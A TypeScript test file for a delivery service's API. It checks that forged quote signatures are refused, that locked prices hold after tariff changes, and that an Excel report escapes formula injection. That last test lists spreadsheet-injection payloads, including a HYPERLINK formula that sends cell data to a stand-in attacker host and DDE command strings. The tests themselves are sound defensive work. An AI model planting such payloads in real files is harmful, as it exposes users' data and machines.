import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALMATY, fixtures, KARAGANDA, userIdOf } from '../../../../test/fixtures.ts';
import { buildTestApp, TEST_SECRETS, type TestApp } from '../../../../test/helper.ts';
import { tariffGrids } from '../../../db/schema.ts';
import { type QuotePayload, readQuote, signQuote } from '../../calc/index.ts';
import { orders } from '../orders.tables.ts';

let t: TestApp;
beforeAll(async () => {
  t = await buildTestApp();
});
afterAll(async () => {
  await t.close();
});

const { call, user, orderBody, priorityCalc, priorityOrderBody } = fixtures(() => t, '7701');

const packOf = (kg: number) => ({ length: 30, width: 20, height: 10, physWeight: kg, placeCnt: 1 });
const read = (id: string) => readQuote(TEST_SECRETS.QUOTE_SECRET, id, Date.now()) as QuotePayload;
/** A quote signed with the server's own key (as a leaked key would let anyone do) after changing it. */
const resign = (id: string, change: Partial<QuotePayload>) => signQuote(TEST_SECRETS.QUOTE_SECRET, { ...read(id), ...change });
/** Doubles (`*`) or halves (`/`) every price of Jetkiz's own fleet, as an operator's edit would. */
const scaleOwnGrid = (by: '*' | '/') =>
  t.database.db
    .update(tariffGrids)
    .set({
      perKgAbove: sql`${tariffGrids.perKgAbove} ${sql.raw(by)} 2`,
      brackets: sql`(select jsonb_agg(jsonb_set(b, '{price}', to_jsonb((b->>'price')::bigint ${sql.raw(by)} 2)))
        from jsonb_array_elements(${tariffGrids.brackets}) b)`,
    })
    .where(eq(tariffGrids.carrier, 'JETKIZ'));
const ordersOf = async (token: string) =>
  t.database.db
    .select({ id: orders.id })
    .from(orders)
    .where(eq(orders.userId, userIdOf(token)));

describe('a quote whose price the server did not compute', () => {
  it('is refused even with a valid signature: a changed price, tariff or weight; no order is made', async () => {
    const { token } = await user('person');
    const calc = await call('POST', '/api/calc/public/calc', undefined, { from: ALMATY, to: KARAGANDA, packDtos: [packOf(2)] });
    const tariffs = calc.body.tariffs as Array<{ calculatorId: string; price: number }>;
    const cheapest = tariffs[0] as { calculatorId: string; price: number };
    const dearest = tariffs.at(-1) as { calculatorId: string; price: number };
    expect(dearest.price).toBeGreaterThan(cheapest.price);

    const forgeries = [
      // Two orders at 0.01 ₸.
      { id: resign(cheapest.calculatorId, { price: 1 }), packs: [packOf(2)] },
      // The dearest tariff at the cheapest one's price.
      { id: resign(dearest.calculatorId, { price: read(cheapest.calculatorId).price }), packs: [packOf(2)] },
      // 30 kg at the price of 2 kg.
      {
        id: resign(cheapest.calculatorId, { packs: '30x20x10x30x1', chargeableKg: 30 }),
        packs: [packOf(30)],
      },
    ];
    for (const [i, forged] of forgeries.entries()) {
      const body = orderBody(forged.id, { parcelInfo: { content: 'Книги', packDtos: forged.packs } });
      const lang = ['RU', 'KZ', 'EN'][i] as string;
      const refused = await call('POST', '/api/order/protected/order', token, body, lang);
      expect(refused.status).toBe(404);
      expect(refused.body.errorCode).toBe('QUOTE_INVALID');
      expect(refused.body.message).toBe(
        {
          RU: 'Расчёт не найден или устарел. Рассчитайте стоимость заново',
          KZ: 'Есеп табылмады немесе ескірді. Құнын қайта есептеңіз',
          EN: 'The quote is not found or has expired. Please calculate again',
        }[lang],
      );
      // Nor does the quote page show the forged price.
      expect((await call('GET', `/api/calc/public/${forged.id}`)).status).toBe(404);
    }
    expect(await ordersOf(token)).toEqual([]);

    // The genuine quote still makes its order, at its price.
    const genuine = await call('POST', '/api/order/protected/order', token, orderBody(cheapest.calculatorId));
    expect(genuine.status).toBe(200);
    expect(genuine.body.totalAmount).toBe(cheapest.price);
    expect(await ordersOf(token)).toHaveLength(1);
  });

  it('keeps the price it locked when the tariffs change before the order', async () => {
    const { token } = await user('company');
    const before = (await priorityCalc(token)).tariffs[0] as { calculatorId: string; price: number };
    // The operator doubles the own fleet's grid.
    await scaleOwnGrid('*');
    await t.app.calc.load();
    t.advance(6 * 60); // past the carriers' rate cache
    try {
      const after = (await priorityCalc(token)).tariffs[0] as { price: number };
      expect(after.price).toBeGreaterThan(before.price);
      const created = await call(
        'POST',
        '/api/order/protected/jur/priority/order',
        token,
        priorityOrderBody(before.calculatorId, { deliveryType: 2 }),
      );
      expect(created.body).toMatchObject({ totalAmount: before.price });
      expect(created.status).toBe(200);
    } finally {
      await scaleOwnGrid('/');
      await t.app.calc.load();
    }
  });
});

describe('the registry report (xlsx)', () => {
  it('writes a customer text that a spreadsheet would evaluate as text, also after a CSV export', async () => {
    const { token } = await user('company');
    const names = [
      '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
    ];
    for (const companyName of names) {
      const body = orderBody(
        await call('POST', '/api/calc/protected/jur/calc', token, { from: ALMATY, to: KARAGANDA, packDtos: [packOf(2)] }).then(
          (r) => r.body.tariffs[0].calculatorId,
        ),
        {
          receiver: { companyName, phone: '+7 (777) 123 45 67', streetAbbrId: 2, street: 'Бухар-Жырау', house: '49' },
        },
      );
      expect((await call('POST', '/api/order/protected/jur/order', token, body)).status).toBe(200);
    }
    const report = await call('GET', '/api/order/protected/jur/report?code=F_12&category=slq-order-list', token);
    expect(report.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(report.raw.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    const written: string[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        // No cell is a formula: each is a plain value, and no text starts a formula.
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[\s]*[=+\-@]/);
      });
      written.push(row.getCell(7).value as string);
    });
    expect(written.sort()).toEqual(names.map((name) => `'${name.trim()}`).sort()); // names are stored trimmed
    // The phone is the number shown as «+7 (777) 123 45 67», with no apostrophe in sight (as text it needed one).
    const phone = sheet.getRow(2).getCell(8);
    expect(phone.value).toBe(77771234567);
    expect(phone.numFmt).toBe('"+"0" ("000") "000" "00" "00');
    // Exported to CSV (as a spreadsheet saves it), no field starts a formula either.
    const csv = (await workbook.csv.writeBuffer()).toString();
    for (const field of csv.split(/[,\n]/)) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });
});
